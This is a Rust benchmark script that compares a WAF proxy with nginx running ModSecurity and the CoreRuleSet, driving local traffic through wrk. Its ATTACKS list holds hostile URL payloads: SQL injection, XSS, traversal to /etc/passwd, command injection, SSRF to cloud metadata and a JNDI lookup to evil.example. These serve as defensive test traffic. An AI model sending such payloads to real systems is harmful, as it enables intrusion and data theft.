//! `cargo xtask bench proxy`: requests per second and latency (p50, p99)
//! with wrk, on loopback, in one run, against the same upstream:
//! 1. direct (no WAF),
//! 2. through waf's proxy (the real proxy, firewall and engine, in process),
//! 3. through nginx with ModSecurity v3 and the OWASP CoreRuleSet (Debian's
//!    nginx, libnginx-mod-http-modsecurity, modsecurity-crs; paranoia 1,
//!    blocking mode),
//!
//! each with a benign mix and an attack mix of URLs. Prints the ratios and
//! writes target/bench/proxy.json.

use std::{
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use serde_json::{Value, json};
use waf_user::config::{Dur, ProxyConfig};

use super::InProcessProxy;

const BENIGN: &[&str] = &[
    "/",
    "/products?category=shoes&page=2",
    "/search?q=select+specialty+hospital",
    "/search?q=drop+shipping+union+jobs",
    "/article/how-to-choose-a-laptop?ref=home",
    "/api/v1/items?ids=1,2,3&sort=-price",
    "/static/app.js?v=1.2.3",
    "/account/orders?from=2024-01-01&to=2024-02-01",
    "/search?q=O%27Reilly+books",
    "/blog?tag=c%2B%2B&page=3",
    "/cart/add?sku=AB-1234&qty=2",
    "/help?topic=password+reset",
    "/search?q=where+to+eat+in+paris",
    "/maps?lat=48.8566&lon=2.3522&zoom=12",
    "/news?q=tom+%26+jerry",
    "/profile?name=Jos%C3%A9&lang=es",
    "/search?q=1+cup+of+flour",
    "/docs/select-statement-tutorial",
    "/events?city=New+York&date=2024-05-01",
    "/feedback?msg=great+service%21",
];

const ATTACKS: &[&str] = &[
    "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item?id=1%20or%201=1",
    "/login?user=admin%27--",
    "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
    "/q?x=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "/download?file=../../../../etc/passwd",
    "/page?include=php://filter/convert.base64-encode/resource=index.php",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/exec?cmd=%60id%60",
    "/fetch?url=http://169.254.169.254/latest/meta-data/",
    "/q?x=$%7Bjndi:ldap://evil.example/a%7D",
    "/tpl?name=%7B%7B7*7%7D%7D",
    "/item?id=1;DROP%20TABLE%20users",
    "/q?x=javascript:alert(1)",
    "/search?q=%27%20AND%20SLEEP(5)--",
    "/file?path=..%252f..%252f..%252fetc%252fpasswd",
    "/api?filter=%7B%22$where%22:%22sleep(1000)%22%7D",
    "/ldap?user=*)(uid=*))(|(uid=*",
    "/q?x=%3Csvg/onload=alert(1)%3E",
    "/run?code=__import__(%27os%27).system(%27id%27)",
];

/// A wrk result.
pub(crate) struct Load {
    pub(crate) rps: f64,
    pub(crate) p50_ms: f64,
    pub(crate) p99_ms: f64,
    pub(crate) requests: u64,
    pub(crate) non_2xx: u64,
}

fn parse_ms(s: &str) -> f64 {
    let s = s.trim();
    if let Some(v) = s.strip_suffix("us") {
        v.parse::<f64>().unwrap_or(0.0) / 1000.0
    } else if let Some(v) = s.strip_suffix("ms") {
        v.parse().unwrap_or(0.0)
    } else if let Some(v) = s.strip_suffix('s') {
        v.parse::<f64>().unwrap_or(0.0) * 1000.0
    } else {
        0.0
    }
}

pub(crate) fn wrk(url: &str, script: &Path, secs: u64, conns: u32) -> Result<Load> {
    let out = Command::new("wrk")
        .args([
            "-t2",
            &format!("-c{conns}"),
            &format!("-d{secs}s"),
            "--latency",
        ])
        .arg("-s")
        .arg(script)
        .arg(url)
        .output()
        .context("running wrk (cargo xtask setup installs it)")?;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    if !out.status.success() {
        bail!("wrk failed: {text}{}", String::from_utf8_lossy(&out.stderr));
    }
    let mut l = Load {
        rps: 0.0,
        p50_ms: 0.0,
        p99_ms: 0.0,
        requests: 0,
        non_2xx: 0,
    };
    for line in text.lines() {
        let t = line.trim();
        if let Some(v) = t.strip_prefix("Requests/sec:") {
            l.rps = v.trim().parse().unwrap_or(0.0);
        } else if let Some(v) = t.strip_prefix("50%") {
            l.p50_ms = parse_ms(v);
        } else if let Some(v) = t.strip_prefix("99%") {
            l.p99_ms = parse_ms(v);
        } else if let Some(v) = t.strip_prefix("Non-2xx or 3xx responses:") {
            l.non_2xx = v.trim().parse().unwrap_or(0);
        } else if t.contains(" requests in ") {
            l.requests = t
                .split_whitespace()
                .next()
                .and_then(|n| n.parse().ok())
                .unwrap_or(0);
        }
    }
    Ok(l)
}

fn lua(paths: &[&str], file: &Path) -> Result<()> {
    let list: Vec<String> = paths.iter().map(|p| format!("  {p:?},")).collect();
    std::fs::write(
        file,
        format!(
            "local paths = {{\n{}\n}}\nlocal i = 0\nrequest = function()\n  i = i + 1\n  \
             return wrk.format(\"GET\", paths[(i % #paths) + 1], {{[\"Host\"] = \"bench\", \
             [\"User-Agent\"] = \"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"}})\nend\n",
            list.join("\n")
        ),
    )?;
    Ok(())
}

/// nginx + ModSecurity + CRS in front of `upstream`, on `port`.
struct Nginx {
    child: Child,
}

impl Nginx {
    fn start(dir: &Path, port: u16, upstream: u16) -> Result<Self> {
        let modsec = dir.join("modsec.conf");
        std::fs::write(
            &modsec,
            // libmodsecurity 3 has no IncludeOptional: the CRS files one by one.
            "Include /etc/nginx/modsecurity.conf\nSecRuleEngine On\nSecAuditEngine Off\n\
             Include /etc/modsecurity/crs/crs-setup.conf\n\
             Include /etc/modsecurity/crs/REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf\n\
             Include /usr/share/modsecurity-crs/rules/*.conf\n\
             Include /etc/modsecurity/crs/RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf\n",
        )?;
        let conf = dir.join("nginx.conf");
        std::fs::write(
            &conf,
            format!(
                "load_module /usr/lib/nginx/modules/ndk_http_module.so;\n\
                 load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;\n\
                 worker_processes 2;\npid {dir}/nginx.pid;\nerror_log {dir}/error.log warn;\n\
                 events {{ worker_connections 1024; }}\n\
                 http {{\n  access_log off;\n  client_body_temp_path {dir};\n\
                 proxy_temp_path {dir};\n  upstream app {{ server 127.0.0.1:{upstream}; keepalive 64; }}\n\
                 server {{\n    listen 127.0.0.1:{port};\n    modsecurity on;\n\
                 modsecurity_rules_file {modsec};\n    location / {{\n      proxy_pass http://app;\n\
                 proxy_http_version 1.1;\n      proxy_set_header Connection \"\";\n    }}\n  }}\n}}\n",
                dir = dir.display(),
                modsec = modsec.display()
            ),
        )?;
        let child = Command::new("nginx")
            .arg("-c")
            .arg(&conf)
            .args(["-g", "daemon off;"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .context("starting nginx (cargo xtask setup installs it)")?;
        Ok(Self { child })
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        // SAFETY: signalling our child (graceful quit).
        unsafe { libc::kill(self.child.id() as i32, libc::SIGQUIT) };
        let _ = self.child.wait();
    }
}

fn wait_port(port: u16) -> Result<()> {
    let start = Instant::now();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        if start.elapsed() > Duration::from_secs(20) {
            bail!("nothing listens on port {port}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

/// A thread-per-connection upstream answering `200 hello` (keep-alive).
pub(crate) fn upstream(port: u16) -> Result<()> {
    use std::io::{BufRead as _, BufReader, Write as _};
    let l = std::net::TcpListener::bind(("127.0.0.1", port))?;
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            std::thread::spawn(move || {
                let _ = c.set_nodelay(true);
                let mut w = c.try_clone().expect("clone");
                let mut r = BufReader::new(c);
                let mut line = String::new();
                loop {
                    // Requests in this benchmark have no body.
                    loop {
                        line.clear();
                        match r.read_line(&mut line) {
                            Ok(0) | Err(_) => return,
                            Ok(_) if line == "\r\n" => break,
                            Ok(_) => {}
                        }
                    }
                    if w.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
                        .is_err()
                    {
                        return;
                    }
                }
            });
        }
    });
    Ok(())
}

/// Runs the benchmark: `proxy [--seconds N] [--connections N]`.
pub fn run(args: &[String]) -> Result<()> {
    let (mut secs, mut conns) = (8u64, 32u32);
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--seconds" => secs = it.next().context("--seconds N")?.parse()?,
            "--connections" => conns = it.next().context("--connections N")?.parse()?,
            other => bail!("unknown argument {other}; known: --seconds N, --connections N"),
        }
    }
    let dir: PathBuf = std::env::temp_dir().join(format!("waf-bench-proxy-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let up = 18_000 + (std::process::id() % 1000) as u16 * 2;
    let theirs = up + 1;
    upstream(up)?;

    // waf's proxy, in process: the real proxy, firewall and engine.
    let pcfg = ProxyConfig {
        upstream: Some(
            format!("http://127.0.0.1:{up}")
                .parse()
                .map_err(anyhow::Error::msg)?,
        ),
        access_log: waf_user::proxy::AccessLog::Off,
        inspect_budget: Dur(Duration::from_secs(1)),
        ..Default::default()
    };
    let server = InProcessProxy::start(&pcfg, None, None, 2)?;
    let ours = server.port;
    let _nginx = Nginx::start(&dir, theirs, up)?;
    wait_port(up)?;
    wait_port(ours)?;
    wait_port(theirs)?;

    let benign = dir.join("benign.lua");
    let attack = dir.join("attack.lua");
    lua(BENIGN, &benign)?;
    lua(ATTACKS, &attack)?;
    let targets = [
        ("direct", up),
        ("waf", ours),
        ("nginx_modsecurity_crs", theirs),
    ];
    let mut results = serde_json::Map::new();
    println!("wrk -t2 -c{conns} -d{secs}s on loopback; same upstream; 20 URLs per mix\n");
    println!(
        "{:<24} {:<7} {:>10} {:>9} {:>9} {:>9}",
        "target", "mix", "req/s", "p50 ms", "p99 ms", "blocked"
    );
    for (mix, script) in [("benign", &benign), ("attack", &attack)] {
        let mut row = serde_json::Map::new();
        for (name, port) in targets {
            let l = wrk(&format!("http://127.0.0.1:{port}"), script, secs, conns)?;
            let blocked = if l.requests > 0 {
                100.0 * l.non_2xx as f64 / l.requests as f64
            } else {
                0.0
            };
            println!(
                "{name:<24} {mix:<7} {:>10.0} {:>9.2} {:>9.2} {:>8.1}%",
                l.rps, l.p50_ms, l.p99_ms, blocked
            );
            row.insert(
                name.into(),
                json!({"rps": l.rps, "p50_ms": l.p50_ms, "p99_ms": l.p99_ms,
                       "requests": l.requests, "blocked_pct": blocked}),
            );
        }
        results.insert(mix.into(), Value::Object(row));
    }
    let get = |mix: &str, t: &str, k: &str| results[mix][t][k].as_f64().unwrap_or(0.0);
    let mut ratios = serde_json::Map::new();
    println!();
    for mix in ["benign", "attack"] {
        let vs_direct = get(mix, "waf", "rps") / get(mix, "direct", "rps");
        let vs_nginx = get(mix, "waf", "rps") / get(mix, "nginx_modsecurity_crs", "rps");
        println!(
            "{mix}: waf serves {:.2}x the direct req/s and {:.2}x nginx+ModSecurity+CRS; p99 {:.2} ms vs {:.2} ms",
            vs_direct,
            vs_nginx,
            get(mix, "waf", "p99_ms"),
            get(mix, "nginx_modsecurity_crs", "p99_ms")
        );
        ratios.insert(
            mix.into(),
            json!({"waf_vs_direct_rps": vs_direct, "waf_vs_nginx_modsecurity_rps": vs_nginx}),
        );
    }
    super::write_json(
        "proxy.json",
        &json!({"seconds": secs, "connections": conns, "results": results, "ratios": ratios}),
    );
    drop(server);
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}
